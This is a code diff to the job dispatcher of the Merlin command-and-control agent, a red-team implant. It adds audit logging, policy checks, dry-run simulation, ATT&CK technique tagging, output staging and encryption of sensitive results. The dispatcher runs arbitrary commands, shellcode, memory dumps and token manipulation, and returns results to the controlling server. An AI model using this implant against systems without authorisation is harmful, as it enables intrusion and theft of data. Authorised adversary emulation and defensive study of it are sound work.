@@ -19,21 +19,39 @@ package agent
 
 import (
 	// Standard
+	"encoding/base64"
 	"fmt"
 	"strings"
+	"sync"
 
 	// Merlin Main
 	"github.com/Ne0nd0g/merlin/pkg/jobs"
 	"github.com/Ne0nd0g/merlin/pkg/messages"
 
 	// Internal
+	"github.com/Ne0nd0g/merlin-agent/audit"
 	"github.com/Ne0nd0g/merlin-agent/cli"
 	"github.com/Ne0nd0g/merlin-agent/commands"
+	"github.com/Ne0nd0g/merlin-agent/loot"
 	"github.com/Ne0nd0g/merlin-agent/socks"
+	"github.com/Ne0nd0g/merlin-agent/staging"
 )
 
-var jobsIn = make(chan jobs.Job, 100)  // A channel of input jobs for the agent to handle
+var jobsIn = make(chan jobs.Job, 100)  // A channel of dispatched jobs for the agent to execute
 var jobsOut = make(chan jobs.Job, 100) // A channel of output job results for the agent to send back to the server
+var sealed sync.Map                    // The IDs of jobs whose results are sealed to the operator's public key
+var tagged sync.Map                    // The IDs of jobs that returned a structured result tagged with their techniques
+
+// hurry ends the agent's current sleep so queued results are returned at the next check in without waiting
+var hurry = make(chan struct{}, 1)
+
+// wakeNow ends the agent's current, or next, sleep early
+func wakeNow() {
+	select {
+	case hurry <- struct{}{}:
+	default:
+	}
+}
 
 func init() {
 	// Start go routine that checks for jobs or tasks to execute
@@ -44,15 +62,38 @@ func init() {
 func executeJob() {
 	for {
 		var result jobs.Results
+		var windowed bool
 		job := <-jobsIn
 		// Need a go routine here so that way a job or command doesn't block
 		go func(job jobs.Job) {
+			defer finished()
+			defer trackJob()()
+			defer operators.Delete(job.ID)
+			audit.Executed(job.ID, jobs.String(job.Type), auditCommand(job), operatorOf(job.ID))
+			job, err := resolveCached(job)
+			if err != nil {
+				jobsOut <- jobs.Job{
+					AgentID: job.AgentID,
+					ID:      job.ID,
+					Token:   job.Token,
+					Type:    jobs.RESULT,
+					Payload: jobs.Results{Stderr: err.Error()},
+				}
+				return
+			}
+			defer sendTechniques(job)
+			if cmd, ok := job.Payload.(jobs.Command); ok && job.Type == jobs.MODULE && loot.Sensitive(cmd.Command) {
+				sealed.Store(job.ID, true)
+			}
 			switch job.Type {
 			case jobs.CMD:
 				result = commands.ExecuteCommand(job.Payload.(jobs.Command))
 			case jobs.FILETRANSFER:
 				if job.Payload.(jobs.FileTransfer).IsDownload {
-					result = commands.Download(job.Payload.(jobs.FileTransfer))
+					windowed = commands.TransferWindowed()
+					var structured commands.Structured
+					result, structured = commands.Download(job.Payload.(jobs.FileTransfer))
+					sendStructured(job, structured)
 				} else {
 					ft, err := commands.Upload(job.Payload.(jobs.FileTransfer))
 					if err != nil {
@@ -69,79 +110,238 @@ func executeJob() {
 					return
 				}
 			case jobs.MODULE:
-				switch strings.ToLower(job.Payload.(jobs.Command).Command) {
-				case "clr":
-					result = commands.CLR(job.Payload.(jobs.Command))
-				case "createprocess":
-					result = commands.CreateProcess(job.Payload.(jobs.Command))
-				case "memfd":
-					result = commands.Memfd(job.Payload.(jobs.Command))
-				case "memory":
-					result = commands.Memory(job.Payload.(jobs.Command))
-				case "minidump":
-					ft, err := commands.MiniDump(job.Payload.(jobs.Command))
-					if err != nil {
-						result.Stderr = err.Error()
-					}
-					jobsOut <- jobs.Job{
-						AgentID: job.AgentID,
-						ID:      job.ID,
-						Token:   job.Token,
-						Type:    jobs.FILETRANSFER,
-						Payload: ft,
-					}
-				case "netstat":
-					result = commands.Netstat(job.Payload.(jobs.Command))
-				case "runas":
-					result = commands.RunAs(job.Payload.(jobs.Command))
-				case "pipes":
-					result = commands.Pipes()
-				case "ps":
-					result = commands.PS()
-				case "ssh":
-					result = commands.SSH(job.Payload.(jobs.Command))
-				case "uptime":
-					result = commands.Uptime()
-				case "token":
-					result = commands.Token(job.Payload.(jobs.Command))
-				default:
-					result.Stderr = fmt.Sprintf("unknown module command: %s", job.Payload.(jobs.Command).Command)
+				var sent bool
+				if result, sent = module(job); sent {
+					// The module sent its own job, such as a file transfer, instead of returning a result
+					return
 				}
 			case jobs.NATIVE:
-				result = commands.Native(job.Payload.(jobs.Command))
+				var structured commands.Structured
+				result, structured = commands.Native(job.Payload.(jobs.Command))
+				sendStructured(job, structured)
 			case jobs.SHELLCODE:
 				result = commands.ExecuteShellcode(job.Payload.(jobs.Shellcode))
 			default:
 				result.Stderr = fmt.Sprintf("Invalid job type: %d", job.Type)
 			}
+			if result.Stderr != "" {
+				if cli.Enabled {
+					cli.Message(cli.WARN, fmt.Sprintf("%s job %s returned an error: %s", jobs.String(job.Type), job.ID, result.Stderr))
+				}
+			}
+			// Output larger than the inline limit is held in the staging area, except sealed output which would be
+			// returned in plain text when it was retrieved from the staging area
+			if _, ok := sealed.Load(job.ID); !ok {
+				result.Stdout = staging.Truncate(jobName(job), result.Stdout)
+			}
 			jobsOut <- jobs.Job{
 				AgentID: job.AgentID,
 				ID:      job.ID,
 				Token:   job.Token,
 				Type:    jobs.RESULT,
-				Payload: result,
+				Payload: attributed(job.ID, result),
+			}
+			// Acknowledgments for windowed chunked transfers are returned without waiting for the sleep to end
+			if windowed {
+				wakeNow()
 			}
 		}(job)
 	}
 }
 
+// stagingModule lists, retrieves, and removes items in the staging area. Retrieved items are sent as their own jobs
+// and sent is true because there is no result to return
+func stagingModule(job jobs.Job) (result jobs.Results, sent bool) {
+	cmd := job.Payload.(jobs.Command)
+	if len(cmd.Args) > 0 && strings.ToLower(cmd.Args[0]) == "download" {
+		ft, err := commands.StagingDownload(cmd)
+		if err != nil {
+			result.Stderr = err.Error()
+			return
+		}
+		jobsOut <- jobs.Job{
+			AgentID: job.AgentID,
+			ID:      job.ID,
+			Token:   job.Token,
+			Type:    jobs.FILETRANSFER,
+			Payload: ft,
+		}
+		return result, true
+	}
+	// Staged output is already paged and is not staged again
+	jobsOut <- jobs.Job{
+		AgentID: job.AgentID,
+		ID:      job.ID,
+		Token:   job.Token,
+		Type:    jobs.RESULT,
+		Payload: commands.Staging(cmd),
+	}
+	return result, true
+}
+
+// sendStructured returns a command's structured results as an additional result for the same job, if enabled. The
+// results are tagged with the MITRE ATT&CK techniques the job exercised, and a job without structured results that
+// exercised a technique returns a structured result with only its techniques
+func sendStructured(job jobs.Job, structured commands.Structured) {
+	if !commands.StructuredEnabled() {
+		return
+	}
+	structured.Techniques = techniques(job)
+	if structured.Type == "" {
+		if len(structured.Techniques) == 0 {
+			return
+		}
+		structured.Version = commands.StructuredVersion
+		structured.Type = policyName(job)
+	}
+	tagged.Store(job.ID, true)
+	structured.Operator = operatorOf(job.ID)
+	jobsOut <- jobs.Job{
+		AgentID: job.AgentID,
+		ID:      job.ID,
+		Token:   job.Token,
+		Type:    jobs.RESULT,
+		Payload: jobs.Results{Stdout: structured.String()},
+	}
+}
+
+// sendTechniques returns the MITRE ATT&CK techniques the job exercised as a structured result if the job did not
+// already return a structured result tagged with them
+func sendTechniques(job jobs.Job) {
+	if _, ok := tagged.LoadAndDelete(job.ID); ok {
+		return
+	}
+	sendStructured(job, commands.Structured{})
+	tagged.Delete(job.ID)
+}
+
+// techniques returns the MITRE ATT&CK technique IDs the job exercised
+func techniques(job jobs.Job) []string {
+	switch payload := job.Payload.(type) {
+	case jobs.Command:
+		return commands.Techniques(policyName(job), payload.Args)
+	case jobs.Shellcode:
+		return commands.Techniques("shellcode", []string{payload.Method})
+	}
+	return commands.Techniques(policyName(job), nil)
+}
+
+// reporter returns a function that background monitors use to send additional results for the job that started them
+func reporter(job jobs.Job) commands.Reporter {
+	return func(result jobs.Results) {
+		jobsOut <- jobs.Job{
+			AgentID: job.AgentID,
+			ID:      job.ID,
+			Token:   job.Token,
+			Type:    jobs.RESULT,
+			Payload: result,
+		}
+	}
+}
+
+// fileSender returns a function that held jobs use to send their file transfer on a later check-in
+func fileSender(job jobs.Job) commands.FileSender {
+	return func(transfer jobs.FileTransfer) {
+		jobsOut <- jobs.Job{
+			AgentID: job.AgentID,
+			ID:      job.ID,
+			Token:   job.Token,
+			Type:    jobs.FILETRANSFER,
+			Payload: transfer,
+		}
+	}
+}
+
+// seal encrypts the output and file transfers of sensitive jobs to the operator's public key. If sealing fails the
+// plain text is dropped rather than sent
+func seal(job jobs.Job) jobs.Job {
+	if _, ok := sealed.Load(job.ID); !ok {
+		return job
+	}
+	switch payload := job.Payload.(type) {
+	case jobs.Results:
+		if payload.Stdout == "" {
+			return job
+		}
+		armored, err := loot.Armor(payload.Stdout)
+		if err != nil {
+			armored = ""
+			payload.Stderr = strings.TrimSpace(fmt.Sprintf("%s\nthe output was dropped because it could not be sealed: %s", payload.Stderr, err))
+		}
+		payload.Stdout = armored
+		job.Payload = payload
+	case jobs.FileTransfer:
+		data, err := base64.StdEncoding.DecodeString(payload.FileBlob)
+		var box []byte
+		if err == nil {
+			box, err = loot.Seal(data)
+		}
+		if err != nil {
+			return jobs.Job{
+				AgentID: job.AgentID,
+				ID:      job.ID,
+				Token:   job.Token,
+				Type:    jobs.RESULT,
+				Payload: jobs.Results{Stderr: fmt.Sprintf("the file transfer %s was dropped because it could not be sealed: %s", payload.FileLocation, err)},
+			}
+		}
+		payload.FileBlob = base64.StdEncoding.EncodeToString(box)
+		payload.FileLocation += loot.Extension
+		job.Payload = payload
+	}
+	return job
+}
+
+// jobName returns the command, and its arguments, that a job executed to describe output held in the staging area
+func jobName(job jobs.Job) string {
+	if cmd, ok := job.Payload.(jobs.Command); ok {
+		return strings.TrimSpace(fmt.Sprintf("%s %s", cmd.Command, strings.Join(cmd.Args, " ")))
+	}
+	return jobs.String(job.Type)
+}
+
+// requeue returns jobs that were packaged into a message that failed to send to the front of the next message as they
+// are. They are the agent's own outgoing jobs and are not handled as jobs from the server, which would suppress a file
+// transfer as a duplicate, apply the job policy to results, and seal or rate limit them a second time
+func requeue(returned []jobs.Job) {
+	outbound.Lock()
+	defer outbound.Unlock()
+	outbound.retry = append(outbound.retry, returned...)
+}
+
 // getJobs extracts any jobs from the channel that are ready to returned to server and packages them up into a Merlin message
 func getJobs() messages.Base {
-	cli.Message(cli.DEBUG, "Entering into agent.getJobs() function")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into agent.getJobs() function")
+	}
 	msg := messages.Base{
 		Version: 1.0,
 	}
 
-	// Check the output channel
-	var returnJobs []jobs.Job
+	// Check the output channel, after the results the rate limiter held back at the last check in
+	outbound.Lock()
+	returnJobs := outbound.retry
+	outbound.retry = nil
+	pending := outbound.held
+	outbound.held = nil
 	for {
 		if len(jobsOut) > 0 {
-			job := <-jobsOut
-			returnJobs = append(returnJobs, job)
+			pending = append(pending, <-jobsOut)
 		} else {
 			break
 		}
 	}
+	for _, job := range pending {
+		if limited(job) {
+			outbound.held = append(outbound.held, job)
+			continue
+		}
+		auditResult(job)
+		if returned, ok := localResult(seal(job)); ok {
+			returnJobs = append(returnJobs, returned)
+		}
+	}
+	outbound.Unlock()
 
 	if len(returnJobs) > 0 {
 		msg.Type = messages.JOBS
@@ -150,31 +350,84 @@ func getJobs() messages.Base {
 		// There are 0 jobs results to return, just checkin
 		msg.Type = messages.CHECKIN
 	}
-	cli.Message(cli.DEBUG, "Leaving the agent.getJobs() function")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Leaving the agent.getJobs() function")
+	}
 	return msg
 }
 
-// jobHandler takes a list of jobs and places them into job channel if they are a valid type
+// jobHandler takes a list of jobs and places them into the job queue if they are a valid type
+// Control messages are handled as they are encountered, but queued jobs are not dispatched until the whole list has
+// been handled so that a queue flush or hold sent after a mistaken batch of commands applies to that batch
 func (a *Agent) jobHandler(Jobs []jobs.Job) {
-	cli.Message(cli.DEBUG, "Entering into agent.jobHandler() function")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into agent.jobHandler() function")
+	}
+	// The operator control only attributes the jobs that follow it in the same message
+	a.operator = ""
+	defer func() { a.operator = "" }()
 	for _, job := range Jobs {
 		// If the job belongs to this agent
 		if job.AgentID == a.ID {
-			cli.Message(cli.SUCCESS, fmt.Sprintf("%s job type received!", jobs.String(job.Type)))
+			if cli.Enabled {
+				cli.Message(cli.SUCCESS, fmt.Sprintf("%s job type received!", jobs.String(job.Type)))
+			}
+			// Jobs the agent executes are only run once; SOCKS jobs reuse the connection's ID and returned
+			// AGENTINFO or RESULT jobs are the agent's own output
+			switch job.Type {
+			case jobs.FILETRANSFER, jobs.CONTROL, jobs.CMD, jobs.MODULE, jobs.SHELLCODE, jobs.NATIVE:
+				if isDuplicate(job.ID) {
+					if cli.Enabled {
+						cli.Message(cli.NOTE, fmt.Sprintf("Skipping duplicate %s job %s that was already received", jobs.String(job.Type), job.ID))
+					}
+					continue
+				}
+			}
+			switch job.Type {
+			case jobs.FILETRANSFER, jobs.CONTROL, jobs.CMD, jobs.MODULE, jobs.SHELLCODE, jobs.NATIVE:
+				a.attribute(job)
+			}
+			if err := a.policy.allowed(job); err != nil {
+				if cli.Enabled {
+					cli.Message(cli.WARN, err.Error())
+				}
+				jobsOut <- jobs.Job{
+					ID:      job.ID,
+					AgentID: a.ID,
+					Token:   job.Token,
+					Type:    jobs.RESULT,
+					Payload: attributed(job.ID, jobs.Results{Stderr: err.Error()}),
+				}
+				operators.Delete(job.ID)
+				continue
+			}
+			if a.dryrun.simulated(job) {
+				jobsOut <- jobs.Job{
+					ID:      job.ID,
+					AgentID: a.ID,
+					Token:   job.Token,
+					Type:    jobs.RESULT,
+					Payload: attributed(job.ID, simulate(job)),
+				}
+				operators.Delete(job.ID)
+				continue
+			}
 			switch job.Type {
 			case jobs.FILETRANSFER:
-				jobsIn <- job
+				enqueue(job)
 			case jobs.CONTROL:
 				a.control(job)
 			case jobs.CMD:
-				jobsIn <- job
+				enqueue(job)
 			case jobs.MODULE:
-				jobsIn <- job
+				enqueue(job)
 			case jobs.SHELLCODE:
-				cli.Message(cli.NOTE, "Received Execute shellcode command")
-				jobsIn <- job
+				if cli.Enabled {
+					cli.Message(cli.NOTE, "Received Execute shellcode command")
+				}
+				enqueue(job)
 			case jobs.NATIVE:
-				jobsIn <- job
+				enqueue(job)
 			// When AgentInfo or Result messages fail to send, they will circle back through the handler
 			case jobs.AGENTINFO:
 				jobsOut <- job
@@ -195,5 +448,8 @@ func (a *Agent) jobHandler(Jobs []jobs.Job) {
 			}
 		}
 	}
-	cli.Message(cli.DEBUG, "Leaving agent.jobHandler() function")
+	dispatch()
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Leaving agent.jobHandler() function")
+	}
 }